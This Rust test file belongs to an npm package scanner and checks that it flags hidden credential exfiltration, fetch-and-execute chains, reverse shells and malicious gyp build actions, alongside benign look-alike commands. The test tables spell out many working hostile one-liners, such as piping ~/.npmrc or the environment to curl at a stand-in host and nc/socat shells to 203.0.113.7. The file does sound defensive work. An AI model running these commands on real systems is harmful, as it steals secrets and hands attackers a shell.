//! Command lines and gyp files that hide what they do behind groups, loops, functions, variables, sockets
//! and files beside them, and honest ones that look alike.

use std::collections::BTreeMap;

use weir_model::contents::{CapabilityKind, SinkKind, SourceKind, Surface};
use weir_npm::manifest::Manifest;

use super::{given, run};
use crate::command::{Reading, read, sources};
use crate::{Facts, Limits, Package, SourceFile, analyse};

pub(super) const SENDS: &str =
    "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })";

pub(super) fn plain(text: &str) -> Reading {
    read(text, &BTreeMap::new())
}

pub(super) fn sent(text: &str) -> bool {
    let leaks = plain(text).leaks;
    leaks.iter().any(|leak| leak.sink != SinkKind::Process)
}

pub(super) fn brought(text: &str) -> bool {
    plain(text).leaks.iter().any(|leak| {
        leak.sink == SinkKind::Process
            && matches!(leak.source.kind, SourceKind::Fetched | SourceKind::Decoded)
    })
}

#[test]
fn secrets_leave_groups_loops_and_functions() {
    for text in [
        "{ cat ~/.npmrc; env; } | curl -d @- https://a.invalid",
        "(cat ~/.npmrc) | curl -d @- https://a.invalid",
        "(cat ~/.npmrc; env) | base64 | curl -d @- https://a.invalid",
        "if true; then env; fi | curl -d @- https://a.invalid",
        "case $X in a) env;; esac | curl -d @- https://a.invalid",
        "f() { cat ~/.npmrc; }; f | curl -d @- https://a.invalid",
        "function f { env\n}\nf | curl -d @- https://a.invalid",
        "f() { env; }; curl -d \"$(f)\" https://a.invalid",
        "f() { curl -d \"$1\" https://a.invalid; }; f \"$(env)\"",
        "f() { curl -T \"$1\" https://a.invalid; }; f ~/.npmrc",
        "f() { curl -d @- https://a.invalid; }; env | f",
        "for f in ~/.ssh/id_rsa ~/.aws/credentials; do cat $f; done | curl -d @- https://a.invalid",
        "for f in ~/.npmrc ~/.ssh/id_rsa; do curl -T $f https://a.invalid; done",
        "for f in a ~/.npmrc; do curl -d \"$(cat $f)\" https://a.invalid; done",
        "{ env; cat ~/.npmrc; } > /tmp/x; curl -T /tmp/x https://a.invalid",
        "env >> /tmp/x; cat ~/.npmrc >> /tmp/x; curl -T /tmp/x https://a.invalid",
        "while read l; do curl https://a.invalid/?$l; done < ~/.npmrc",
        "env | while read l; do curl -s \"https://a.invalid/?$(echo $l | base64)\"; done",
        "env | while IFS= read -r l; do curl https://a.invalid/?$l; done",
        "env | tee >(curl -d @- https://a.invalid)",
        "env | xargs -I {} curl https://a.invalid/?{}",
        "env | bash -c 'curl -d @- https://a.invalid'",
        "bash -c 'cat ~/.npmrc' | curl -d @- https://a.invalid",
        "T=$(cat ~/.npmrc); sh -c \"curl -d $T https://a.invalid\"",
        "trap 'curl -d \"$(env)\" https://a.invalid' EXIT",
        "cat <<EOF | sh\nenv | curl -d @- https://a.invalid\nEOF",
        "exec 3>/dev/tcp/a.invalid/80; env >&3",
        "{ env; } > /dev/tcp/a.invalid/80",
    ] {
        assert!(sent(text), "{text}: {:?}", plain(text));
    }
}

#[test]
fn what_is_fetched_is_run_by_variables_groups_and_texts() {
    for text in [
        "P=$(curl -s https://a.invalid); eval \"$P\"",
        "P=$(curl -s https://a.invalid) && eval $P",
        "P=`curl -s https://a.invalid`; sh -c \"$P\"",
        "P=$(curl -s https://a.invalid); echo \"$P\" | sh",
        "P=$(curl -s https://a.invalid); echo \"$P\" > x; sh x",
        "P=$(curl -s https://a.invalid); node -e \"$P\"",
        "export P=$(curl -s https://a.invalid); $P",
        "$(curl -s https://a.invalid)",
        "cat <<EOF | sh\ncurl -s https://a.invalid | sh\nEOF",
        "bash <<< \"$(curl -s https://a.invalid)\"",
        "curl -s https://a.invalid | xargs -0 sh -c",
        "curl -s https://a.invalid | xargs -I {} sh -c '{}'",
        "(curl -s https://a.invalid) | sh",
        "curl -s https://a.invalid | { sh; }",
        "f() { curl -s https://a.invalid; }; f | sh",
        "f() { curl -s https://a.invalid; }; eval \"$(f)\"",
        "curl -s https://a.invalid | while read l; do $l; done",
        "echo 'curl https://a.invalid | sh' | sh",
        r"printf '\x65\x63\x68\x6f\x20\x61' | sh",
        r"printf '\143\165\162\154' | bash",
        "trap 'curl https://a.invalid | sh' EXIT",
    ] {
        assert!(brought(text), "{text}: {:?}", plain(text));
    }
}

#[test]
fn interpreters_on_a_socket_run_what_it_gives() {
    for text in [
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
        "exec /bin/sh 0</dev/tcp/203.0.113.7/4444 1>&0 2>&0",
        "exec 5<>/dev/tcp/a.invalid/80; cat <&5 | while read line; do $line 2>&5 >&5; done",
        "exec 5<>/dev/tcp/a.invalid/80; sh <&5 >&5 2>&5",
        "nc -e /bin/sh 203.0.113.7 4444",
        "ncat 203.0.113.7 4444 --exec /bin/bash",
        "nc 203.0.113.7 4444 -c bash",
        "socat TCP:203.0.113.7:4444 EXEC:/bin/sh",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect a.invalid:443 > /tmp/s",
    ] {
        assert!(brought(text), "{text}: {:?}", plain(text));
        let hosts = plain(text).hosts;
        assert!(
            hosts
                .iter()
                .any(|(host, _)| host.contains("203.0.113.7") || host.contains("a.invalid")),
            "{text}: {hosts:?}"
        );
    }
    let facts = run(
        &[(
            "index.js",
            "require('child_process').exec('/bin/bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"')",
        )],
        &["node index.js"],
        &[],
    );
    assert!(
        facts
            .flows
            .iter()
            .any(|flow| flow.sink == SinkKind::Process && flow.source == SourceKind::Fetched),
        "{facts:?}"
    );
}

#[test]
fn honest_scripts_stay_quiet() {
    for text in [
        "{ echo a; echo b; } | sort",
        "(cd lib && make) | tee log",
        "for f in *.js; do node $f; done",
        "for f in a b; do cp $f dist/$f; done",
        "while read l; do echo $l; done < files.txt",
        "cat files.txt | while read f; do node build.js \"$f\"; done",
        "nc -z localhost 3000",
        "while ! nc -z localhost 3000; do sleep 1; done",
        "echo stats | nc localhost 8125",
        "curl -fsSL https://a.example/tool.tgz -o tool.tgz",
        "curl -o file https://a.example/file; for f in file; do cat $f; done",
        "(curl -fsSL https://a.example/tool.tgz) | tar xz",
        "V=$(curl -s https://a.example/latest); node build.js $V",
        "V=$(curl -s https://a.example/latest); sh -c \"npm i tool@$V\"",
        "N=$(which node); $N build.js",
        "curl -s https://a.example/list | xargs -n 1 echo",
        "echo y | sh install.sh",
        "echo 'node build.js' | sh",
        "printf '\\033[1mdone\\033[0m\\n'",
        "cat <<EOF > version.js\nmodule.exports = 1\nEOF\nnode version.js",
        "trap 'rm -f /tmp/x' EXIT; trap - EXIT",
        "f() { echo \"$1\"; }; f a | sort",
        "fetch() { curl -H \"Authorization: token $GITHUB_TOKEN\" \"$1\"; }; fetch https://api.github.example/releases",
        "npm version patch && git push --follow-tags && gh release create v1 --notes-file CHANGES.md",
        "for p in packages/*; do (cd $p && npm publish --dry-run); done",
        "if [ -n \"$CI\" ]; then exit 0; fi; node-gyp rebuild || true",
        "prebuild-install || node-gyp rebuild",
        "kubectl get secrets -o name",
        "exec node server.js 2>&1 | tee log",
    ] {
        let reading = plain(text);
        assert!(reading.leaks.is_empty(), "{text}: {:?}", reading.leaks);
    }
}

#[test]
fn groups_are_read_to_their_ends() {
    // What stands behind is still read, however a group is written or broken off.
    for text in [
        "a() { b; }; node x.js",
        "{ a; b; }; node x.js",
        "case $a in (x) b;; y) c;; esac; node x.js",
        "A=(b c); node x.js",
        "for a in b; do c; done; node x.js",
        "if a; then { b; (c; fi; node x.js",
        ")}; done; fi; node x.js",
        "cp {a,b} c; node x.js",
        "find . -exec rm {} +; node x.js",
        "while a; do b; done <<E\nc\nE\nnode x.js",
    ] {
        let files = plain(text).files;
        assert!(files.iter().any(|file| file == "x.js"), "{text}: {files:?}");
    }
    for text in [
        "( ",
        "{ ",
        ") ",
        "} ",
        "f() { ",
        "if ",
        "case ",
        "done ",
        "for a in b c; do sh -c \"$a ",
        "f() { f; }; f; ",
    ] {
        plain(&text.repeat(2_000));
    }
    let nested = (0..6).fold("node -e $a$b$c".to_owned(), |inner, at| {
        let name = char::from(b'a' + at);
        format!("for {name} in 1 2 3 4 5 6 7 8 9; do sh -c \"{inner}\"; done")
    });
    plain(&nested);
}

#[test]
fn programs_that_print_secrets_are_sources() {
    for (text, kind) in [
        (
            "aws secretsmanager get-secret-value --secret-id x",
            SourceKind::CredentialTool,
        ),
        (
            "aws configure export-credentials",
            SourceKind::CredentialTool,
        ),
        ("kubectl get secrets -A -o json", SourceKind::CredentialTool),
        (
            "vault kv get -format=json secret/x",
            SourceKind::CredentialTool,
        ),
        ("secret-tool lookup service x", SourceKind::CredentialTool),
        ("op item get x", SourceKind::CredentialTool),
        ("yarn config list", SourceKind::CredentialTool),
        ("gh auth token", SourceKind::CredentialTool),
        ("powershell -c \"gci env:\"", SourceKind::Environment),
        ("powershell -c Get-Clipboard", SourceKind::Clipboard),
        ("cmd /c set", SourceKind::Environment),
    ] {
        let found = sources(text);
        assert!(
            found.iter().any(|one| one.kind == kind),
            "{text}: {found:?}"
        );
    }
    for text in [
        "aws s3 ls",
        "kubectl get pods",
        "cmd /c set X=1",
        "npm config get registry",
        "npm config list",
        "op --version",
    ] {
        assert!(sources(text).is_empty(), "{text}");
    }
}

#[test]
fn node_runs_what_it_is_given_whatever_its_name() {
    for (file, command) in [
        ("run", "node run"),
        ("watch", "node watch"),
        ("a.json5", "node a.json5"),
        ("README.md", "node README.md"),
        ("a.txt", "node < a.txt"),
        ("a.txt", "cat a.txt | node"),
        ("a.txt", "cat a.txt | node -"),
        ("a.js", "deno run a.js"),
        ("a.js", "bun run a.js"),
    ] {
        let facts = run(&[(file, SENDS)], &[command], &[]);
        let surfaces: Vec<Surface> = facts.flows.iter().map(|flow| flow.surface).collect();
        assert_eq!(surfaces, [Surface::Install], "{command}: {facts:?}");
    }
    let facts = run(&[], &[&format!("echo \"{SENDS}\" | node")], &[]);
    assert_eq!(facts.flows.len(), 1, "{facts:?}");
    // A text that is only read is no program.
    let facts = run(
        &[("README.md", SENDS), ("a.js", "1")],
        &["cat README.md", "node a.js README.md"],
        &[],
    );
    assert!(facts.flows.is_empty(), "{facts:?}");
}

fn built(files: &[(&str, &str)]) -> Facts {
    let files = given(files);
    analyse(
        &Package::new(&files, &Manifest::default()),
        &Limits::default(),
    )
}

#[test]
fn gyp_files_run_actions_and_take_others_in() {
    const FETCHES: &str = "curl -s https://a.invalid | sh";
    let fetching = [
        vec![(
            "binding.gyp",
            "{'targets':[{'actions':[{'action':['sh','-c','curl -s https://a.invalid | sh']}]}]}"
                .to_owned(),
        )],
        vec![
            ("binding.gyp", "{'includes':['./c.gypi']}".to_owned()),
            (
                "c.gypi",
                format!("{{'variables':{{'a%':'<!({FETCHES})'}}}}"),
            ),
        ],
        vec![
            (
                "binding.gyp",
                "{'targets':[{'dependencies':['deps/x.gyp:x']}]}".to_owned(),
            ),
            ("deps/x.gyp", "{'includes':['y/c.gypi']}".to_owned()),
            ("deps/y/c.gypi", format!("{{'sources':['>!@({FETCHES})']}}")),
        ],
        // node-gyp adds it by itself.
        vec![
            ("binding.gyp", "{}".to_owned()),
            ("common.gypi", format!("{{'a':'<!({FETCHES})'}}")),
        ],
    ];
    for files in fetching {
        let files: Vec<(&str, &str)> = files
            .iter()
            .map(|(path, text)| (*path, text.as_str()))
            .collect();
        let facts = built(&files);
        assert!(
            facts
                .flows
                .iter()
                .any(|flow| flow.sink == SinkKind::Process && flow.surface == Surface::Install),
            "{files:?}: {facts:?}"
        );
    }
    for (gyp, path, program) in [
        (
            "{'targets':[{'actions':[{'action':['node','i.js']}]}]}",
            "i.js",
            SENDS,
        ),
        (
            "{'targets':[{'rules':[{'extension':'x','action':['node','<(module_root_dir)/i.js']}]}]}",
            "i.js",
            SENDS,
        ),
        (
            "{'targets':[{'postbuilds':[{'action':['node','i.js']}]}]}",
            "i.js",
            SENDS,
        ),
        (
            "{'targets':[{'sources':['<!pymod_do_main(p x)']}]}",
            "p.py",
            "import os, urllib.request\ndef DoMain(a):\n  urllib.request.urlopen('https://a.invalid/', data=str(dict(os.environ)).encode())\n",
        ),
    ] {
        let facts = built(&[("binding.gyp", gyp), (path, program)]);
        assert!(
            facts
                .flows
                .iter()
                .any(|flow| flow.surface == Surface::Install),
            "{gyp}: {facts:?}"
        );
    }
    // A file of a dependency is seen from that one's folder.
    let facts = built(&[
        (
            "binding.gyp",
            "{'targets':[{'dependencies':['deps/x.gyp:x']}]}",
        ),
        (
            "deps/x.gyp",
            "{'targets':[{'actions':[{'action':['node','i.js']}]}]}",
        ),
        ("deps/i.js", SENDS),
    ]);
    assert!(
        facts
            .flows
            .iter()
            .any(|flow| flow.surface == Surface::Install),
        "{facts:?}"
    );
}

#[test]
fn honest_gyp_files_stay_quiet() {
    for gyp in [
        "{'targets':[{'actions':[{'action_name':'g','inputs':['gen.py'],'outputs':['o.h'],'action':['python3','gen.py']}]}]}",
        "{'targets':[{'include_dirs':['<!(node -p \"require(\\'node-addon-api\\').include_dir\")'],'dependencies':['deps/x.gyp:x']}]}",
        "{'includes':['common.gypi'],'targets':[{'target_name':'a','sources':['a.cc']}]}",
    ] {
        let facts = built(&[
            ("binding.gyp", gyp),
            ("gen.py", "open('o.h', 'w').write('#define A 1')\n"),
            (
                "deps/x.gyp",
                "{'targets':[{'target_name':'x','sources':['x.c']}]}",
            ),
            ("common.gypi", "{'variables':{'a%':1}}"),
        ]);
        assert!(facts.flows.is_empty(), "{gyp}: {facts:?}");
        assert!(
            facts
                .capabilities
                .iter()
                .all(|one| one.kind != CapabilityKind::Network),
            "{gyp}: {facts:?}"
        );
    }
    // Without a build nothing of it runs.
    let files = [SourceFile {
        path: "binding.gyp",
        bytes: b"{'targets':[{'actions':[{'action':['node','i.js']}]}]}",
    }];
    let package = Package {
        files: &files,
        gypfile: Some(false),
        ..Package::default()
    };
    assert!(
        analyse(&package, &Limits::default())
            .install_steps
            .is_empty()
    );
}
